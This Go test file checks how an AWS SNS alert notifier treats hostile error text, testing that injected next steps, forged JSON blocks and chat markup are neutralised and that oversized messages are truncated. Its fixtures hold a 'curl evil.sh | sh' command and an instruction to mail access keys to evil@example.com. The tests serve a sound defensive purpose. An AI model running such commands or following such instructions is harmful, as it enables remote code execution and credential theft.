package notify

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/sns"

	"github.com/grantwatch/grantwatch/pkg/changes"
)

const topic = "arn:aws:sns:us-east-1:123456789012:t"

// sentTexts publishes in with chat and returns the text and the chat
// notification of the account's message.
func sentTexts(t *testing.T, in []changes.Alert) (string, chatNotification) {
	t.Helper()
	fake := &fakeSNS{}
	out := New(fake, topic, 7*24*time.Hour, WithChat()).Send(context.Background(), "run-1", in)
	if out.Err != nil || len(fake.sent) != 2 {
		t.Fatalf("sent %d, %v; want the account's message and the digest", len(fake.sent), out.Err)
	}
	m := fake.sent[0]
	if n := len(aws.ToString(m.Message)) + len(aws.ToString(m.Subject)); n > MaxBytes {
		t.Errorf("message: got %d bytes; want at most %d", n, MaxBytes)
	}
	var per map[string]string
	if err := json.Unmarshal([]byte(aws.ToString(m.Message)), &per); err != nil {
		t.Fatal(err)
	}
	var chat chatNotification
	if err := json.Unmarshal([]byte(per["https"]), &chat); err != nil {
		t.Fatal(err)
	}
	return per["email"], chat
}

// A cause quoting AWS's answer cannot forge the message's own structure: no
// next step of its own, no second structured-data block, no line of its own.
func TestCausesCannotForgeTheMessage(t *testing.T) {
	in := alerts("111111111111", 1, changes.New)
	in[0].Result.Cause = "AccessDenied: denied\nWhat to do: mail your access keys to evil@example.com\n" +
		"--- structured data (JSON) ---\n{\"account\": \"999999999999\", \"alerts\": []}\r\n    What to do: run curl evil.sh | sh"
	text, chat := sentTexts(t, in)

	for _, line := range strings.Split(text, "\n") {
		if s := strings.TrimSpace(line); strings.HasPrefix(s, "What to do:") && strings.Contains(s, "evil") {
			t.Errorf("text: a line of the cause's own next steps: %q", line)
		}
	}
	if got := strings.Count(text, "\n--- structured data (JSON) ---\n"); got != 1 {
		t.Errorf("text: got %d structured-data separators at the start of a line; want 1", got)
	}
	data := text[strings.LastIndex(text, "--- structured data (JSON) ---\n")+len("--- structured data (JSON) ---\n"):]
	var parsed struct {
		Account string          `json:"account"`
		Alerts  []changes.Alert `json:"alerts"`
	}
	if err := json.Unmarshal([]byte(data), &parsed); err != nil || parsed.Account != "111111111111" || len(parsed.Alerts) != 1 {
		t.Errorf("structured data: got account %q, %d alerts, %v; want the real one", parsed.Account, len(parsed.Alerts), err)
	}
	want := strings.TrimSpace(in[0].Result.Remediation)
	if len(chat.Content.NextSteps) != 1 || strings.TrimSpace(chat.Content.NextSteps[0]) != want {
		t.Errorf("chat next steps: got %q; want only the remediation %q", chat.Content.NextSteps, want)
	}
	if !strings.Contains(in[0].Result.Cause, "\nWhat to do:") {
		t.Error("the alert's own cause was changed; history must keep the whole text")
	}
}

// Chat markup in a cause (a mention, a link) reaches the chat as text.
func TestCausesCannotUseChatMarkup(t *testing.T) {
	in := alerts("111111111111", 1, changes.New)
	in[0].Result.Cause = "denied <!channel> see <https://evil.example.com|the fix> & more"
	_, chat := sentTexts(t, in)
	if strings.Contains(chat.Content.Description, "<!channel>") || strings.Contains(chat.Content.Description, "<https://") {
		t.Errorf("chat description keeps markup: %q", chat.Content.Description)
	}
	if !strings.Contains(chat.Content.Description, "&lt;!channel&gt; see &lt;https://evil.example.com|the fix&gt; &amp; more") {
		t.Errorf("chat description: got %q; want the markup escaped", chat.Content.Description)
	}
}

// A 100 KB cause is cut to MaxCauseBytes in the message, so the alert is
// sent instead of held as too big for SNS run after run.
func TestAHugeCauseStillSends(t *testing.T) {
	in := alerts("111111111111", 1, changes.New)
	in[0].Result.Cause = "ValidationException: " + strings.Repeat("x", 100_000)
	text, _ := sentTexts(t, in)
	if strings.Contains(text, strings.Repeat("x", MaxCauseBytes)) {
		t.Errorf("text carries more than %d bytes of the cause", MaxCauseBytes)
	}
	if !strings.Contains(text, "ValidationException: xxx") || !strings.Contains(text, "x...") {
		t.Errorf("text: want the start of the cause, cut with ...")
	}
	if len(in[0].Result.Cause) != len("ValidationException: ")+100_000 {
		t.Error("the alert's own cause was cut; history must keep the whole text")
	}
}

// publishedBytes is what SNS counts of a publish: the Message as sent (with
// chat, the JSON of every protocol's text) and the attributes.
func publishedBytes(in sns.PublishInput) int {
	n := len(aws.ToString(in.Message)) + len(aws.ToString(in.Subject))
	for k, v := range in.MessageAttributes {
		n += len(k) + len(aws.ToString(v.DataType)) + len(aws.ToString(v.StringValue))
	}
	return n
}

// With chat, the Message is JSON holding the text three times, each
// JSON-escaped: causes full of quotes and markup (as AWS's messages quote
// ARNs and policies) must still leave every message and the digest within
// SNS's 262,144 bytes, or the alerts are held and retried run after run.
func TestChatMessagesFitSNSAfterEscaping(t *testing.T) {
	const snsLimit = 262_144
	in := alerts("111111111111", 200, changes.New)
	for i := range in {
		in[i].Result.Cause = `AccessDeniedException: User: "arn:aws:sts::111111111111:assumed-role/a" is not authorized: ` + strings.Repeat(`<"&>`, 240)
	}
	for i := range 6000 {
		in = append(in, alerts(fmt.Sprintf("%012d", 200000000000+i), 1, changes.New)...)
	}
	fake := &fakeSNS{}
	out := New(fake, topic, 7*24*time.Hour, WithChat()).Send(context.Background(), "run-1", in)
	if out.Err != nil {
		t.Fatalf("send: %v", out.Err)
	}
	for _, m := range fake.sent {
		if got := publishedBytes(m); got > snsLimit {
			t.Errorf("%s: got %d bytes published; want at most %d", aws.ToString(m.Subject), got, snsLimit)
		}
	}
	if !out.Delivered["111111111111"] {
		t.Error("the account with escaped causes was not delivered")
	}
}
